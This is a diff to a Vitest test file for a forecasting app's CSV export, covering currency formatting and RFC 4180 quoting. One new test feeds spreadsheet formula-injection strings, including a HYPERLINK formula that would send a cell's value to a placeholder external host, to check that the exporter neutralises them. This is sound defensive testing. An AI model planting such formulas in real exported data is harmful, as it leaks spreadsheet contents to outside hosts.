@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { contributionDelta, contributions, primaryProductLine, type Cell } from '../../shared/forecast/contribution.js';
-import { minorToDecimal, toCsv } from '../../shared/forecast/csv.js';
+import { minorToMajor, toCsv } from '../../shared/exports/csv.js';
 import { monthsBetween } from '../../shared/domain/calendar.js';
 import { MIN_HISTORY_SAMPLE, buildForecast, closeProbability, periodOf, stageProbability, type ForecastContext } from '../../shared/forecast/report.js';
 import { toReportingCurrency } from '../../shared/domain/money.js';
@@ -44,9 +44,12 @@ describe('currency conversion', () => {
   });
 
   it('writes decimals with two places whatever the currency’s minor unit', () => {
-    expect(minorToDecimal(12_345, 'EUR')).toBe('123.45');
-    expect(minorToDecimal(-5, 'EUR')).toBe('-0.05');
-    expect(minorToDecimal(1_500, 'JPY')).toBe('1500.00');
+    const written = (amount: number, currency: string) =>
+      toCsv([{ key: 'v', header: 'v', decimals: 2 }], [{ v: minorToMajor(amount, currency) }]).split('\r\n')[1];
+    expect(written(12_345, 'EUR')).toBe('123.45');
+    expect(written(-5, 'EUR')).toBe('-0.05');
+    expect(written(1_500, 'JPY')).toBe('1500.00');
+    expect(written(9_999_999_999_999, 'EUR')).toBe('99999999999.99');
   });
 });
 
@@ -115,5 +118,23 @@ describe('CSV', () => {
   it('quotes per RFC 4180, ends lines with CRLF and starts with a BOM', () => {
     const csv = toCsv([{ key: 'name', header: 'name' }, { key: 'n', header: 'n' }], [{ name: 'Müller, "Söhne"', n: 2 }]);
     expect(csv).toBe('\uFEFFname,n\r\n"Müller, ""Söhne""",2\r\n');
+  });
+
+  it('neutralises formula cells in text, never in numbers', () => {
+    const texts = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '\uFF1D1', '=HYPERLINK("http://x.example/?"&A1,"open")'];
+    const csv = toCsv(
+      [{ key: 'text', header: 'text' }, { key: 'amount', header: 'amount', decimals: 2 }, { key: 'count', header: 'count' }],
+      texts.map((text) => ({ text, amount: -12.5, count: -3 })),
+    );
+    expect(csv.slice(1).split('\r\n').slice(1, -1)).toEqual([
+      "'=1+1,-12.50,-3",
+      "'+1,-12.50,-3",
+      "'-1,-12.50,-3",
+      "'@SUM(A1),-12.50,-3",
+      "'\tx,-12.50,-3",
+      `"'\rx",-12.50,-3`,
+      "'\uFF1D1,-12.50,-3",
+      `"'=HYPERLINK(""http://x.example/?""&A1,""open"")",-12.50,-3`,
+    ]);
   });
 });
